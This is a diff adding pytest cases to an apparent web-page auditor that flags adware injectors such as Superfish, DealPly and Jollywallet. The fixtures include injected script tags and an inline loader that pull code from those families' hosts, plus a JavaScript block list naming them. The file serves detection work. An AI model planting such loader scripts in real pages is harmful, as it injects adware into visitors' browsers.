@@ -107,3 +107,58 @@ def test_a_pages_address_carried_otherwise_is_none(audit_html: AuditHtml, footer
 def test_spoilt_address_on_a_page_of_unknown_address(audit_html: AuditHtml) -> None:
     html = page(footer=_INJECTOR).replace(f'<link rel="canonical" href="{URL}">', "")
     assert [s for s, _ in _adware(audit_html(html, url=None))] == [Severity.MEDIUM]
+
+
+@pytest.mark.parametrize("footer", [
+    # an article about Superfish showing its logo, hotlinked from the family's site
+    '<p>Lenovo shipped Superfish.</p><img src="http://www.superfish.com/images/logo.png" '
+    'alt="Superfish">',
+    # a connection hint requests nothing
+    '<link rel="preconnect" href="https://servedby.dealply.com">',
+    # a cleaner's or a detector's list names the hosts; it loads none of them
+    '<script>var blocked=["http://www.superfish.com/ws/sf_main.jsp","https://servedby.dealply'
+    '.com/dealdo/setcck"];function isAdware(u){return blocked.some(function(b){return '
+    'u.indexOf(b)>=0})}</script>',
+])
+def test_a_family_named_but_not_loaded_as_code_is_none(audit_html: AuditHtml,
+                                                       footer: str) -> None:
+    assert _adware(audit_html(page(footer=footer), url=URL)) == []
+
+
+def test_a_familys_loader_an_inline_script_inserts_is_high(audit_html: AuditHtml) -> None:
+    footer = ('<script>(function(){var s=document.createElement("script");s.src="//servedby.'
+              'dealply.com/dealdo/setcck?key0=a";document.body.appendChild(s);})();</script>')
+    assert [s for s, _ in _adware(audit_html(page(footer=footer), url=URL))] == [Severity.HIGH]
+
+
+@pytest.mark.parametrize("written", [
+    # the injector's tag and the page run together, before the doctype on `<html>`'s line
+    '<script src="http://cdn.pagebar.test/30/hxxp://news.example/arg?purl=yes"></script>{page}',
+    '<script src="http://cdn.pagebar.test/30/hxxp://news.example/arg?purl=yes"></script>\n{page}',
+])
+def test_the_shape_before_the_doctype_is_high(audit_html: AuditHtml, written: str) -> None:
+    html = written.format(page=page().replace("<!DOCTYPE html>\n<html>", "<!DOCTYPE html><html>"))
+    report = audit_html(html, url=URL)
+    assert [s for s, _ in _adware(report)] == [Severity.HIGH]
+    assert not [f for f in report.findings if f.kind == "appended-script"]
+
+
+@pytest.mark.parametrize("loader", [
+    '<script id="superfish-script" src="http://www.superfish.com/ws/sf_main.jsp?dlsource=pcm'
+    '&userId=u1&CTID=SF"></script>',
+    '<script src="https://api.jollywallet.com/affiliate/client?p=16&dist=261&sub=c"></script>',
+])
+def test_an_injectors_distribution_number_joins_no_sites(audit_html: AuditHtml,
+                                                         loader: str) -> None:
+    """Every browser the same bundle infected carries its number: two unrelated sites saved
+    by two such browsers are not one operator."""
+    from auditor.bulk.aggregate import clusters
+
+    edges = []
+    for site in ("news.example", "shop.example"):
+        url = f"https://{site}/2014/story/"
+        report = audit_html(page(head=loader).replace("news.example", site), url=url)
+        ids = [i for i in report.ids if i.network in ("Superfish", "Jollywallet")]
+        assert ids  # the finding names it
+        edges += [(i.kind, i.value, i.network, site) for i in ids]
+    assert clusters(edges) == []
